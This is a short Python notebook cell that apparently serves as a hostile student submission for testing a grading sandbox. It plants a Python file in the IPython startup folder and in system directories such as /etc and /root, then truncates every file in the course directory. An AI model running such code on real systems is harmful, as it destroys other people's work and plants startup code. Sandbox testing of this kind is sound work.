# Other students' work, the sources, the released notebook, the home folder and /tmp are written to.
# %% first
import glob
import os

PLACES = [
    "@COURSE@",
    "@HOME@",
    "@HOME@/.ipython/profile_default/startup",
    "@CHECKOUT@",
    "@TMP@",
    "/tmp",
    "/var/tmp",
]
PLACES += (
    glob.glob("@COURSE@/*") + glob.glob("@COURSE@/*/*/*") + ["/usr/lib", "/etc", "/root", "/dev/shm", "/run"]
)
for place in PLACES:
    try:
        os.makedirs(place, exist_ok=True)
        with open(f"{place}/planted_by_student.py", "w") as file:
            file.write("print('planted')")
    except OSError:
        pass
for path in glob.glob("@COURSE@/**/*.*", recursive=True):
    if "planted" not in path:
        print("GOT", path)
        open(path, "w").close()
